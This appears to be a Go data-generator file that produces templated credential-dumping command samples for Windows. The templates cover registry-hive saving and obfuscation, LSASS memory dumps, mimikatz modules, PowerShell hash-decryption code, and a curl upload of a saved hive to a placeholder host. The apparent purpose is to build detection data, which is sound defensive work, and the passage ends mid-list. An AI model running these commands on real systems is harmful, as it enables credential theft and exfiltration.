package datagen

import (
	"fmt"
	"strings"
)

// More credential-dumping (SAM/SYSTEM/SECURITY hives, LSASS memory) procedure families.

func credFamiliesMore() []Family {
	var fs []Family
	fs = append(fs, credMoreHives()...)
	fs = append(fs, credMoreShadow()...)
	fs = append(fs, credMoreLsass()...)
	fs = append(fs, credMoreScripts()...)
	fs = append(fs, credMoreRemote()...)
	fs = append(fs, credMoreC2()...)
	return fs
}

// addCredSlotsMore adds the slots this file's families use.
func addCredSlotsMore(m map[string]slotFunc) {
	m["crshare"] = oneOf(`c$`, `C$`, `admin$`, `ADMIN$`, `c$\windows\temp`, `C$\Users\Public`, `share`, `tmp`, `loot`,
		`public`, `{{word}}`, `data$`, `Users\Public`, `transfer`, `backup$`)
	m["crloot"] = oneOf("loot", "./loot/{{host}}", "/tmp/{{word}}", "~/engagements/{{word}}", "/root/loot", "out", ".",
		"~/ops/{{host}}", "/opt/loot", "results")
	m["crdrive"] = oneOf("z", "y", "x", "w", "v", "q", "e", "f", "Z", "Y", "X", "S")
	m["crvar"] = oneOf("r", "x", "a", "k", "c", "p", "{{word}}", "_", "z1", "m")
	m["crcls"] = func(s *sample) string {
		w := randStr(s, lower, 3, 8)
		return s.pick("Native", "Win32", "Reg", "Dump", "K32", "N"+fmt.Sprint(s.intn(99)), "Helper", "Util",
			strings.ToUpper(w[:1])+w[1:])
	}
	m["crsam"] = oneOf(`C:\Windows\System32\config\SAM`, `c:\windows\system32\config\sam`, `%windir%\System32\config\SAM`,
		`%SystemRoot%\system32\config\SAM`, `C:\WINDOWS\system32\config\SAM`, `%SYSTEMROOT%\System32\config\sam`)
	m["crsys"] = oneOf(`C:\Windows\System32\config\SYSTEM`, `c:\windows\system32\config\system`, `%windir%\System32\config\SYSTEM`,
		`%SystemRoot%\system32\config\SYSTEM`, `C:\WINDOWS\system32\config\SYSTEM`)
	m["crsec"] = oneOf(`C:\Windows\System32\config\SECURITY`, `c:\windows\system32\config\security`, `%windir%\System32\config\SECURITY`,
		`%SystemRoot%\system32\config\SECURITY`)
	m["crpssam"] = oneOf(`C:\Windows\System32\config\SAM`, `$env:windir\System32\config\SAM`, `$env:SystemRoot\System32\config\SAM`,
		`c:\windows\system32\config\sam`)
	m["crimp"] = oneOf(`{{domain}}/{{user}}:'{{pass}}'@{{ip}}`, `{{domain}}/{{user}}:{{pass}}@{{host}}`,
		`{{domain}}/{{user}}@{{ip}} -hashes :{{hex32}}`, `./{{user}}:'{{pass}}'@{{ip}}`,
		`{{user}}@{{ip}} -hashes aad3b435b51404eeaad3b435b51404ee:{{hex32}}`, `-k -no-pass {{domain}}/{{user}}@{{host}}`,
		`'{{domain}}/{{user}}:{{pass}}'@{{ip}}`, `administrator@{{ip}} -hashes :{{hex32}}`)
	m["crsmburl"] = oneOf(`smb2+ntlm-password://{{domain}}\{{user}}:{{pass}}@{{ip}}`, `smb2+ntlm-nt://{{domain}}\{{user}}:{{hex32}}@{{host}}`,
		`smb+kerberos-password://{{domain}}\{{user}}:{{pass}}@{{host}}/?dc={{ip}}`, `smb2+ntlm-password://{{user}}:{{pass}}@{{ip}}`)
	m["crdl"] = oneOf(`http://{{ip}}`, `http://{{ip}}:{{port}}`, `https://{{word}}.ngrok.io`, `https://raw.githubusercontent.com/{{word}}/{{word}}/main`,
		`https://{{word}}.blob.core.windows.net/{{word}}`, `http://{{host}}/tools`, `https://{{word}}.s3.amazonaws.com`, `http://{{ip}}/{{word}}`)
	m["crvol"] = oneOf("vol", "vol.py", "vol3", "python3 vol.py", "volatility3", "python3 /opt/volatility3/vol.py", "vol.exe", "volatility")
	m["crmem"] = oneOf("mem.raw", "memory.dmp", "{{host}}.raw", "{{word}}.vmem", "physmem.raw", "MEMORY.DMP", "{{host}}-{{date}}.mem",
		"dump.mem", "ram.img", "{{word}}.raw", "win10.vmem", "memdump.bin")
	m["crkcmd"] = oneOf("sekurlsa::logonpasswords", "sekurlsa::logonPasswords full", "sekurlsa::msv", "sekurlsa::wdigest",
		"sekurlsa::kerberos", "sekurlsa::tspkg", "sekurlsa::ekeys", "sekurlsa::credman", "sekurlsa::livessp", "sekurlsa::ssp",
		"lsadump::sam", "lsadump::secrets", "lsadump::cache", "lsadump::lsa /patch", "lsadump::lsa /inject", "sekurlsa::dpapi")
	m["crkpre"] = oneOf(`"privilege::debug"`, `privilege::debug`, `"privilege::debug" "token::elevate"`, `"token::elevate"`,
		`"log {{word}}.txt" "privilege::debug"`, ``, `"privilege::debug" "log"`)
	m["crdll"] = oneOf("{{word}}.dll", "c.dll", "svc.dll", "{{word}}.tmp", "x.cpl", "{{hex8}}.dll", "cs.dll", "mscoree32.dll")
	m["crhivef"] = oneOf("sam.save", "system.save", "security.save", "SAM", "SYSTEM", "sam.hiv", "system.hiv", "lsass.dmp",
		"lsass.DMP", "{{host}}_lsass.dmp", "sam.bak", "lsass.zip", "SECURITY")
	m["crrid"] = func(s *sample) string {
		return s.pick("000001F4", "000001F5", "000001F7", "000001F8", "000003E8", "000003E9", "000003EA",
			fmt.Sprintf("%08X", 1000+s.intn(4000)))
	}
	m["cragent"] = func(s *sample) string { return strings.ToUpper(randStr(s, alnum, 8, 8)) }
	m["crwbver"] = func(s *sample) string {
		return fmt.Sprintf("%02d/%02d/20%02d-%02d:%02d", 1+s.intn(12), 1+s.intn(28), 20+s.intn(6), s.intn(24), s.intn(60))
	}
	m["crnano"] = oneOf("nanodump.x64.exe", "nanodump.exe", "{{rndexe}}", `{{wtemp}}\nanodump.x64.exe`, `.\nanodump.x64.exe`,
		"nanodump_ssp.x64.exe", `C:\Tools\nanodump\dist\nanodump.x64.exe`)
	m["crimplant"] = func(s *sample) string {
		return strings.ToUpper(s.pick("ANGRY", "BRAVE", "CLEVER", "DARK", "EAGER", "FANCY", "GENTLE", "HOLLOW", "ICY", "JOLLY") +
			"_" + s.pick("PANDA", "FALCON", "TIGER", "OTTER", "RAVEN", "WOLF", "BADGER", "HERON", "LYNX", "MOOSE"))
	}
	m["crlsaps"] = oneOf("(Get-Process lsass).Id", "(gps lsass).id", "(Get-Process -Name lsass).Id", "$pid_lsass",
		"(Get-Process lsass | Select -ExpandProperty Id)", "$lsass.Id", "$((Get-Process lsass).Id)",
		"([Diagnostics.Process]::GetProcessesByName('lsass')[0].Id)", `(Get-CimInstance Win32_Process -Filter "name='lsass.exe'").ProcessId`)
	m["crmsfprof"] = oneOf("Win7SP1x64", "Win10x64_19041", "Win2016x64_14393", "Win2012R2x64", "Win10x64_18362", "Win81U1x64", "WinXPSP2x86")
}

// credMoreHives covers registry-hive dumping: reg.exe and regedit syntaxes,
// registry APIs, WMI, backup privilege and remote registry tools.
func credMoreHives() []Family {
	c := T1003
	return []Family{
		fam("cred/reg-save-unc-output", c, "windows", Cmd,
			`{{reg}} save {{hklm}}\SAM \\{{ip}}\{{crshare}}\{{samout}}{{| /y}}`,
			`{{reg}} save {{hklm}}\SYSTEM \\{{host}}\{{crshare}}\{{sysout}} /y`,
			`{{reg}} save {{hklm}}\SECURITY \\{{ip}}\{{crshare}}\{{secout}}{{| /y}}`,
			`{{reg}} save "{{hklm}}\SAM" "\\{{host}}@SSL\DavWWWRoot\{{samout}}" /y`,
			`{{reg}} save {{hklm}}\sam \\tsclient\{{c|C|share}}\{{samout}}`,
			`net use {{crdrive}}: \\{{ip}}\{{crshare}}{{| /user:{{domain}}\{{user}} {{pass}}}} {{amp}} {{reg}} save {{hklm}}\SAM {{crdrive}}:\{{samout}} /y`,
			`{{reg}} save {{hklm}}\system \\{{ip}}\{{crshare}}\{{host}}_{{sysout}} /y {{amp}} {{reg}} save {{hklm}}\sam \\{{ip}}\{{crshare}}\{{host}}_{{samout}} /y`,
			`pushd \\{{ip}}\{{crshare}} {{amp}} {{reg}} save {{hklm}}\SAM {{samout}} /y {{amp}} {{reg}} save {{hklm}}\SYSTEM {{sysout}} /y {{amp}} popd`),
		fam("cred/reg-save-view-flag", c, "windows", Cmd,
			`{{reg}} save {{hklm}}\SAM {{wtemp}}\{{samout}} /reg:64{{| /y}}`,
			`{{reg}} save {{hklm}}\SYSTEM {{wtemp}}\{{sysout}} /y /reg:64`,
			`{{reg}} save {{hklm}}\SECURITY {{wtemp}}\{{secout}} /reg:{{32|64}} /y`,
			`{{reg}} export {{hklm}}\SAM {{wtemp}}\{{samout}}.reg /reg:64 /y`,
			`{{reg}} save {{hklm}}\{{hive}} {{wtemp}}\{{word}}.{{hiv|dat|bin}} /reg:64 /y`,
			`{{reg}} save HKLM\SAM {{wtemp}}\{{samout}} /y /reg:64 {{amp}} {{reg}} save HKLM\SYSTEM {{wtemp}}\{{sysout}} /y /reg:64`,
			`C:\Windows\Sysnative\reg.exe save {{hklm}}\{{SAM|SECURITY|SYSTEM}} {{wtemp}}\{{samout}} /y`),
		fam("cred/reg-save-cmd-obfuscation", c, "windows", Cmd,
			`r^e^g s^a^v^e H^K^L^M\S^A^M {{wtemp}}\{{samout}}{{| /y}}`,
			`reg sa^ve hk^lm\sy^stem {{wtemp}}\{{sysout}} /y`,
			`set {{crvar}}=reg{{amp}} call %{{crvar}}% save hklm\sam {{wtemp}}\{{samout}}`,
			`cmd /v:on /c "set k=HKLM\SA&& set k=!k!M&& reg save !k! {{wtemp}}\{{samout}} /y"`,
			`reg save "HKLM\S"A"M" {{wtemp}}\{{samout}} /y`,
			`reg save HKLM\"SECURITY" "{{wtemp}}\{{secout}}"`,
			`cmd /c "set h=SYSTEM&& call reg save HKLM\%h% {{wtemp}}\{{sysout}}"`,
			`for %k in (s"am" s"ystem") do reg save hklm\%k {{wtemp}}\%k.{{hiv|tmp|bak}}`,
			`%windir%\system32\r"e"g.exe save H"KLM\SA"M {{wtemp}}\{{samout}}`),
		fam("cred/reg-save-hive-subkeys", c, "windows", Cmd,
			`{{reg}} save {{hklm}}\SAM\SAM {{wtemp}}\{{samout}} /y`,
			`{{reg}} save {{hklm}}\SAM\SAM\Domains\Account {{wtemp}}\{{samout}}{{| /y}}`,
			`{{reg}} save {{hklm}}\SECURITY\Policy\Secrets {{wtemp}}\{{secout}} /y`,
			`{{reg}} save {{hklm}}\SECURITY\Cache {{wtemp}}\{{secout}}{{| /y}}`,
			`{{reg}} save {{hklm}}\SYSTEM\CurrentControlSet\Control\Lsa {{wtemp}}\{{sysout}} /y`,
			`{{reg}} export {{hklm}}\SECURITY\Policy\PolEKList {{wtemp}}\{{word}}.reg /y`,
			`{{reg}} export {{hklm}}\SAM\SAM\Domains\Account\Users {{wtemp}}\{{word}}.reg{{| /y}}`,
			`{{reg}} save {{hklm}}\SECURITY\Policy {{wtemp}}\{{secout}} /y`),
		fam("cred/reg-save-stage-archive", c, "windows", Cmd,
			`{{reg}} save {{hklm}}\SAM {{wtemp}}\{{samout}} /y {{amp}} {{reg}} save {{hklm}}\SYSTEM {{wtemp}}\{{sysout}} /y {{amp}} 7z a -p{{pass}} {{wtemp}}\{{word}}.7z {{wtemp}}\{{samout}} {{wtemp}}\{{sysout}}`,
			`{{reg}} save {{hklm}}\SAM {{wtemp}}\{{samout}} {{amp}} makecab {{wtemp}}\{{samout}} {{wtemp}}\{{word}}.cab`,
			`{{reg}} save {{hklm}}\SAM {{wtemp}}\{{samout}} /y {{amp}} {{reg}} save {{hklm}}\SYSTEM {{wtemp}}\{{sysout}} /y {{amp}} tar -czf {{wtemp}}\{{word}}.tgz -C {{wtemp}} {{samout}} {{sysout}}`,
			`{{reg}} save {{hklm}}\SECURITY {{wtemp}}\{{secout}} /y {{amp}} certutil -encode {{wtemp}}\{{secout}} {{wtemp}}\{{word}}.b64`,
			`{{reg}} save {{hklm}}\SAM {{wtemp}}\{{samout}} /y {{amp}} copy /y {{wtemp}}\{{samout}} \\{{ip}}\{{crshare}}\`,
			`{{reg}} save {{hklm}}\SYSTEM {{wtemp}}\{{sysout}} /y {{amp}} curl -F "f=@{{wtemp}}\{{sysout}}" http://{{ip}}:{{port}}/upload`,
			`{{reg}} save {{hklm}}\sam {{wtemp}}\{{samout}} {{amp}} {{reg}} save {{hklm}}\system {{wtemp}}\{{sysout}} {{amp}} powershell Compress-Archive {{wtemp}}\{{samout}},{{wtemp}}\{{sysout}} {{wtemp}}\{{word}}.zip`,
			`{{reg}} save {{hklm}}\SAM {{wtemp}}\{{samout}} /y {{amp}} rar a -hp{{pass}} {{wtemp}}\{{word}}.rar {{wtemp}}\{{samout}}`),
		fam("cred/regedit-export-hive", c, "windows", Cmd,
			`regedit{{|.exe}} /e {{wtemp}}\{{samout}}.reg "HKEY_LOCAL_MACHINE\SAM"`,
			`regedit{{|.exe}} /e {{wtemp}}\{{secout}}.reg HKEY_LOCAL_MACHINE\SECURITY`,
			`regedit.exe /a {{wtemp}}\{{word}}.reg "HKEY_LOCAL_MACHINE\SAM\SAM\Domains\Account"`,
			`regedit /s /e {{wtemp}}\{{word}}.reg "HKEY_LOCAL_MACHINE\SECURITY\Policy\Secrets"`,
			`%windir%\regedit.exe /e "{{wtemp}}\{{sysout}}.reg" "HKEY_LOCAL_MACHINE\SYSTEM"`,
			`C:\Windows\regedit.exe /e {{wtemp}}\{{word}}.txt HKEY_LOCAL_MACHINE\SAM\SAM\Domains\Account\Users`,
			`start /wait regedit /e \\{{ip}}\{{crshare}}\{{samout}}.reg HKEY_LOCAL_MACHINE\SAM`),
		fam("cred/impacket-reg-py-save", c, "any", Sh,
			`{{reg.py|impacket-reg|python3 reg.py}} {{crimp}} save -keyName 'HKLM\SAM' -o '\\{{ip}}\{{word}}'`,
			`{{reg.py|impacket-reg}} {{crimp}} save -keyName HKLM\SYSTEM -o '\\{{ip}}\share'`,
			`{{reg.py|impacket-reg|python3 /opt/impacket/examples/reg.py}} {{crimp}} backup -o '\\{{ip}}\{{word}}'`,
			`reg.py {{crimp}} save -keyName 'HKLM\SECURITY' -o 'C:\Windows\Temp'`,
			`impacket-reg -k -no-pass {{domain}}/{{user}}@{{host}} backup -o '\\{{ip}}\smb'`,
			`reg.py {{crimp}} -dc-ip {{ip}} save -keyName HKLM\SAM -o \\{{ip}}\{{word}}\`,
			`impacket-reg {{crimp}} backup -o C:\Windows\Temp\ && impacket-smbclient {{crimp}}`),
		fam("cred/backup-operator-remote-hives", c, "windows", Cmd,
			`BackupOperatorToDA.exe -t \\{{host}} -u {{user}} -p {{pass}} -d {{domain}} -o \\{{ip}}\{{crshare}}\`,
			`.\BackupOperatorToDA.exe -t \\{{host}}.{{domain}} -o \\{{ip}}\{{word}}`,
			`BackupOperatorToolkit.exe DUMP \\{{ip}}\{{crshare}} \\{{host}}.{{domain}}`,
			`{{rndexe}} -t \\{{host}} -u {{user}} -p {{pass}} -d {{domain}} -o \\{{ip}}\{{crshare}}\`,
			`BackupOperatorToDA.exe -t \\{{host}} -o C:\Windows\Temp\`,
			`BackupOperatorToolkit.exe DUMP \\{{ip}}\{{crshare}} \\{{host}} {{user}} {{pass}} {{domain}}`),
		fam("cred/sebackupprivilege-cmdlets", c, "windows", PS,
			`Import-Module .\SeBackupPrivilegeUtils.dll; Import-Module .\SeBackupPrivilegeCmdLets.dll; Set-SeBackupPrivilege; Copy-FileSeBackupPrivilege {{crpssam}} {{pstemp}}\{{samout}}{{| -Overwrite}}`,
			`Copy-FileSeBackupPrivilege C:\Windows\System32\config\SYSTEM {{pstemp}}\{{sysout}}{{| -Overwrite}}`,
			`Set-SeBackupPrivilege; Copy-FileSeBackupPrivilege $env:windir\System32\config\SECURITY {{pstemp}}\{{secout}} -Overwrite`,
			`Get-SeBackupPrivilege; Set-SeBackupPrivilege; Copy-FileSeBackupPrivilege {{crdrive}}:\Windows\System32\config\SAM {{pstemp}}\{{samout}}`,
			`Import-Module .\SeBackupPrivilegeCmdLets.dll; 'SAM','SYSTEM' | % { Copy-FileSeBackupPrivilege "C:\Windows\System32\config\$_" "{{pstemp}}\$_" -Overwrite }`,
			`Acl-FullControl {{user}} C:\Windows\System32\config; Copy-FileSeBackupPrivilege {{crpssam}} {{pstemp}}\{{samout}}`),
		fam("cred/wmi-stdregprov-sam-read", c, "windows", PS,
			`$r = [wmiclass]"\\{{host}}\root\default:StdRegProv"; $r.GetBinaryValue(2147483650, 'SAM\SAM\Domains\Account\Users\{{crrid}}', 'V')`,
			`Invoke-WmiMethod -Namespace root\default -Class StdRegProv -Name GetBinaryValue -ArgumentList 2147483650,'SAM\SAM\Domains\Account','F'{{| -ComputerName {{host}}}}`,
			`Invoke-CimMethod -Namespace root/default -ClassName StdRegProv -MethodName EnumKey -Arguments @{hDefKey=[uint32]2147483650; sSubKeyName='SAM\SAM\Domains\Account\Users'}{{| -ComputerName {{host}}}}`,
			`Get-WmiObject -List StdRegProv -Namespace root\default -ComputerName {{host}} | % { $_.GetBinaryValue(2147483650,'SECURITY\Policy\Secrets\$MACHINE.ACC\CurrVal','') }`,
			`$reg = Get-WmiObject -List -Namespace root\default -ComputerName {{host}} -Credential $cred | ? Name -eq StdRegProv; $reg.EnumKey(2147483650,'SECURITY\Policy\Secrets')`,
			`Invoke-CimMethod -Namespace root/default -ClassName StdRegProv -MethodName GetBinaryValue -Arguments @{hDefKey=[uint32]2147483650; sSubKeyName='SAM\SAM\Domains\Account\Users\{{crrid}}'; sValueName='V'} -CimSession {{host}}`,
			`([wmiclass]'root\default:StdRegProv').GetBinaryValue(2147483650,'SECURITY\Cache','NL$1').uValue`),
		fam("cred/wmic-stdregprov-sam", c, "windows", Cmd,
			`wmic /namespace:\\root\default path StdRegProv call GetBinaryValue hDefKey="&H80000002" sSubKeyName="SAM\SAM\Domains\Account" sValueName="F"`,
			`wmic {{|/node:{{host}} }}/namespace:\\root\default class StdRegProv call GetBinaryValue hDefKey=2147483650 sSubKeyName="SAM\SAM\Domains\Account\Users\{{crrid}}" sValueName="V"`,
			`wmic /node:{{host}} /user:{{domain}}\{{user}} /password:{{pass}} /namespace:\\root\default class StdRegProv call EnumKey hDefKey=2147483650 sSubKeyName="SAM\SAM\Domains\Account\Users"`,
			`wmic /namespace:\\root\default class StdRegProv call EnumKey hDefKey="&H80000002" sSubKeyName="SECURITY\Policy\Secrets"`,
			`wmic /node:{{ip}} /namespace:\\root\default path StdRegProv call GetBinaryValue hDefKey=2147483650 sSubKeyName="SECURITY\Policy\Secrets\DefaultPassword\CurrVal" sValueName=""`),
		fam("cred/ps-wmi-process-create-dump", c, "windows", PS,
			`Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList "reg.exe save HKLM\SAM C:\Windows\Temp\{{samout}} /y" -ComputerName {{host}}`,
			`Invoke-WmiMethod -ComputerName {{host}} -Class Win32_Process -Name Create -ArgumentList 'cmd.exe /c reg save HKLM\SYSTEM C:\Windows\Temp\{{sysout}}'{{| -Credential $cred}}`,
			`Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {{lsapid}} C:\Windows\Temp\{{dmp}} full'}{{| -ComputerName {{host}}| -CimSession $s}}`,
			`([wmiclass]"\\{{host}}\root\cimv2:Win32_Process").Create("C:\Windows\Temp\procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\{{dmp}}")`,
			`$s = New-CimSession -ComputerName {{host}}; Invoke-CimMethod -CimSession $s -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine="reg save HKLM\SECURITY C:\Windows\Temp\{{secout}} /y"}`,
			`Get-WmiObject -List Win32_Process -ComputerName {{host}} | % { $_.Create('cmd /c reg save HKLM\SAM C:\Windows\Temp\{{samout}} & reg save HKLM\SYSTEM C:\Windows\Temp\{{sysout}}') }`),
		fam("cred/ps-regsavekey-pinvoke", c, "windows", Script,
			`Add-Type -TypeDefinition @"
using System;
using System.Runtime.InteropServices;
public class {{crcls}} {
    [DllImport("advapi32.dll", CharSet = CharSet.Auto)]
    public static extern int RegOpenKeyEx(UIntPtr hKey, string subKey, int ulOptions, int samDesired, out IntPtr hkResult);
    [DllImport("advapi32.dll", CharSet = CharSet.Auto)]
    public static extern int RegSaveKey(IntPtr hKey, string lpFile, IntPtr lpSecurityAttributes);
}
"@
$h = [IntPtr]::Zero
[{{crcls}}]::RegOpenKeyEx([UIntPtr]0x80000002, "{{SAM|SYSTEM|SECURITY}}", 0, 0x20019, [ref]$h) | Out-Null
[{{crcls}}]::RegSaveKey($h, "{{pstemp}}\{{samout}}", [IntPtr]::Zero)`,
			`$sig = @'
[DllImport("advapi32.dll", SetLastError = true)] public static extern int RegOpenKeyEx(uint hKey, string subKey, uint options, int sam, out IntPtr phkResult);
[DllImport("advapi32.dll", SetLastError = true)] public static extern int RegSaveKeyEx(IntPtr hKey, string file, IntPtr sa, uint flags);
[DllImport("ntdll.dll")] public static extern uint RtlAdjustPrivilege(int p, bool e, bool t, out bool o);
'@
$api = Add-Type -MemberDefinition $sig -Name {{crcls}} -Namespace {{crcls2}} -PassThru
$o = $false; $api::RtlAdjustPrivilege(17, $true, $false, [ref]$o) | Out-Null
foreach ($k in 'SAM','SYSTEM','SECURITY') {
    $h = [IntPtr]::Zero
    $api::RegOpenKeyEx(0x80000002, $k, 0x4, 0x20019, [ref]$h) | Out-Null
    $api::RegSaveKeyEx($h, "{{pstemp}}\$k.{{hiv|bak|dat|tmp}}", [IntPtr]::Zero, 2) | Out-Null
}`,
			`$code = @"
using System;
using System.Runtime.InteropServices;
public static class {{crcls}} {
  [DllImport("advapi32.dll")] public static extern int RegCreateKeyEx(UIntPtr hKey, string sub, int r, string c, int o, int sam, IntPtr sa, out IntPtr res, out int disp);
  [DllImport("advapi32.dll")] public static extern int RegSaveKey(IntPtr hKey, string file, IntPtr sa);
}
"@
Add-Type $code
$key = [IntPtr]::Zero; $d = 0
[{{crcls}}]::RegCreateKeyEx([UIntPtr]::new(0x80000002), 'SAM', 0, $null, 4, 0x20019, [IntPtr]::Zero, [ref]$key, [ref]$d)
[{{crcls}}]::RegSaveKey($key, '\\{{ip}}\{{crshare}}\{{samout}}', [IntPtr]::Zero)`,
			`$k = [Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SECURITY')
Add-Type -MemberDefinition '[DllImport("advapi32.dll")] public static extern int RegSaveKey(Microsoft.Win32.SafeHandles.SafeRegistryHandle h, string f, IntPtr s);' -Name R -Namespace {{crcls}}
[{{crcls}}.R]::RegSaveKey($k.Handle, '{{pstemp}}\{{secout}}', [IntPtr]::Zero)`),
		fam("cred/ps-registry-sam-hash-read", c, "windows", PS,
			`Get-ItemProperty -Path 'HKLM:\SAM\SAM\Domains\Account\Users\{{crrid}}' -Name V`,
			`(Get-ItemProperty 'HKLM:\SAM\SAM\Domains\Account').F`,
			`Get-ChildItem HKLM:\SAM\SAM\Domains\Account\Users | ? { $_.PSChildName -match '^[0-9A-F]{8}$' } | % { (Get-ItemProperty $_.PSPath).V }`,
			`[Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SAM\SAM\Domains\Account\Users\{{crrid}}').GetValue('V')`,
			`(Get-Item 'HKLM:\SECURITY\Policy\Secrets\{{DefaultPassword|$MACHINE.ACC|NL$KM|DPAPI_SYSTEM|_SC_{{svcname}}}}\CurrVal').GetValue('')`,
			`Get-ItemProperty 'HKLM:\SECURITY\Cache' | Select-Object 'NL$*' | Export-Clixml {{pstemp}}\{{word}}.xml`,
			`$v = (Get-ItemProperty "HKLM:\SAM\SAM\Domains\Account\Users\{{crrid}}").V; [IO.File]::WriteAllBytes('{{pstemp}}\{{word}}.bin', $v)`,
			`Get-ChildItem 'HKLM:\SECURITY\Policy\Secrets' | % { $_.PSChildName; (Get-Item "$($_.PSPath)\CurrVal").GetValue('') }`),
		fam("cred/ps-bootkey-sam-decrypt-script", c, "windows", Script,
			`$sig = @'
[DllImport("advapi32.dll", CharSet = CharSet.Auto)]
public static extern int RegOpenKeyEx(int hKey, string subKey, int ulOptions, int samDesired, out int hkResult);
[DllImport("advapi32.dll", CharSet = CharSet.Auto)]
public static extern int RegQueryInfoKey(int hkey, System.Text.StringBuilder lpClass, ref int lpcbClass, int lpReserved, out int lpcSubKeys, out int lpcbMaxSubKeyLen, out int lpcbMaxClassLen, out int lpcValues, out int lpcbMaxValueNameLen, out int lpcbMaxValueLen, out int lpcbSecurityDescriptor, IntPtr lpftLastWriteTime);
'@
$adv = Add-Type -MemberDefinition $sig -Name {{crcls}} -Namespace {{crcls2}} -PassThru
$scrambled = ""
foreach ($k in "JD","Skew1","GBG","Data") {
    $h = 0; $adv::RegOpenKeyEx(0x80000002, "SYSTEM\CurrentControlSet\Control\Lsa\$k", 0, 0x19, [ref]$h) | Out-Null
    $cls = New-Object Text.StringBuilder 1024; [int]$len = 1024; $a = 0
    $adv::RegQueryInfoKey($h, $cls, [ref]$len, 0, [ref]$a, [ref]$a, [ref]$a, [ref]$a, [ref]$a, [ref]$a, [ref]$a, [IntPtr]::Zero) | Out-Null
    $scrambled += $cls.ToString()
}
$F = (Get-ItemProperty HKLM:\SAM\SAM\Domains\Account).F
Get-ChildItem HKLM:\SAM\SAM\Domains\Account\Users | ? { $_.PSChildName -ne 'Names' } | % { $v = (Get-ItemProperty $_.PSPath).V; "$($_.PSChildName):$([BitConverter]::ToString($v))" } | Out-File {{pstemp}}\{{word}}.txt`,
			`function Get-BootKey {
    $s = [string]::Join("", ("JD","Skew1","GBG","Data" | % { Get-RegKeyClass "HKLM" "SYSTEM\CurrentControlSet\Control\Lsa\$_" }))
    $b = New-Object byte[] 16; $p = 0x8,0x5,0x4,0x2,0xb,0x9,0xd,0x3,0x0,0x6,0x1,0xc,0xe,0xa,0xf,0x7
    0..15 | % { $b[$_] = [Convert]::ToByte("$($s[$p[$_]*2])$($s[$p[$_]*2+1])", 16) }
    return $b
}
$bootkey = Get-BootKey
$hbootkey = Get-HBootKey $bootkey
Get-UserHashes -hbootkey $hbootkey | Format-Table -AutoSize{{| {{pipe}} Out-File {{pstemp}}\{{word}}.txt}}`,
			`$bk = Get-BootKey
$F = (Get-ItemProperty 'HKLM:\SAM\SAM\Domains\Account').F
$rc4 = [Security.Cryptography.MD5]::Create().ComputeHash($F[0x70..0x7F] + [Text.Encoding]::ASCII.GetBytes("!@#$%^&*()qwertyUIOPAzxcvbnmQQQQQQQQQQQQ)(*@&%") + $bk + [Text.Encoding]::ASCII.GetBytes("0123456789012345678901234567890123456789"))
Get-ChildItem 'HKLM:\SAM\SAM\Domains\Account\Users' | % { Decrypt-SamHash $_ $rc4 }`),
	}
}

// credMoreShadow covers copies of the hive files themselves: shadow
// copies, backup tooling, raw NTFS readers and offline disks.
func credMoreShadow() []Family {
	c := T1003
	return []Family{
		fam("cred/esentutl-hive-argorder", c, "windows", Cmd,
			`esentutl{{|.exe}} /y {{crsam}} /vss /d {{wtemp}}\{{samout}}`,
			`esentutl{{|.exe}} /y {{crsys}} /vss /d {{wtemp}}\{{sysout}} /o`,
			`esentutl /y /vss {{crsec}} /d {{wtemp}}\{{secout}}`,
			`for %h in (SAM SYSTEM SECURITY) do esentutl /y /vss C:\Windows\System32\config\%h /d {{wtemp}}\%h.{{bak|hiv|dat}}`,
			`esentutl.exe /y /vss {{crsam}} /d \\{{ip}}\{{crshare}}\{{samout}}`,
			`esentutl /y /vss {{crsys}} /d {{wtemp}}\{{sysout}} {{amp}} esentutl /y /vss {{crsam}} /d {{wtemp}}\{{samout}}`,
			`{{sys32}}\esentutl.exe /y /vss /d {{wtemp}}\{{samout}} {{crsam}}`,
			`esentutl.exe /y /vss C:\Windows\System32\config\SAM /d {{wtemp}}\{{samout}} /o {{amp}} esentutl.exe /y /vss C:\Windows\System32\config\SECURITY /d {{wtemp}}\{{secout}} /o`),
		fam("cred/shadow-hive-lolbin-copy", c, "windows", Cmd,
			`extrac32 /C {{shadow}}\{{cfg}}\SAM {{wtemp}}\{{samout}}`,
			`expand {{shadow}}\{{cfg}}\SYSTEM {{wtemp}}\{{sysout}}`,
			`type {{shadow}}\{{cfg}}\SAM > {{wtemp}}\{{samout}}`,
			`makecab {{shadow}}\{{cfg}}\SAM {{wtemp}}\{{word}}.cab`,
			`certutil -encode {{shadow}}\{{cfg}}\SECURITY {{wtemp}}\{{word}}.b64`,
			`esentutl.exe /y {{shadow}}\{{cfg}}\SECURITY /d {{wtemp}}\{{secout}} /o`,
			`copy /b {{shadow}}\{{cfg}}\SYSTEM \\{{ip}}\{{crshare}}\{{sysout}}`,
			`xcopy /h /y /c {{shadow}}\{{cfg}}\SECURITY {{wtemp}}\`,
			`robocopy {{shadow}}\{{cfg}} \\{{ip}}\{{crshare}} SAM SYSTEM SECURITY /r:0`),
		fam("cred/vshadow-hive-copy", c, "windows", Cmd,
			`vshadow{{|.exe}} -p -nw C: {{amp}} copy {{shadow}}\{{cfg}}\SAM {{wtemp}}\{{samout}}`,
			`vshadow -nw -p -script={{wtemp}}\vss.cmd C: & call {{wtemp}}\vss.cmd & copy %SHADOW_DEVICE_1%\{{cfg}}\SYSTEM {{wtemp}}\{{sysout}}`,
			`vshadow.exe -p C: & vshadow.exe -el={{bguid}},{{crdrive}}: & copy {{crdrive}}:\{{cfg}}\SAM {{wtemp}}\{{samout}}`,
			`vshadow -nw -p C: > {{wtemp}}\{{word}}.txt & copy {{shadow}}\{{cfg}}\SECURITY {{wtemp}}\{{secout}}`,
			`"C:\Program Files (x86)\Windows Kits\10\bin\{{ver}}\x64\vshadow.exe" -p -nw C: & copy {{shadow}}\{{cfg}}\SAM {{wtemp}}\{{samout}}`),
		fam("cred/shadow-for-loop-copy", c, "windows", Cmd,
			`for /f "tokens=4" %a in ('vssadmin list shadows ^| findstr /c:"Shadow Copy Volume"') do copy %a\{{cfg}}\SAM {{wtemp}}\{{samout}}`,
			`for /f "skip=1" %s in ('wmic shadowcopy get DeviceObject') do copy %s\{{cfg}}\SYSTEM {{wtemp}}\{{sysout}}`,
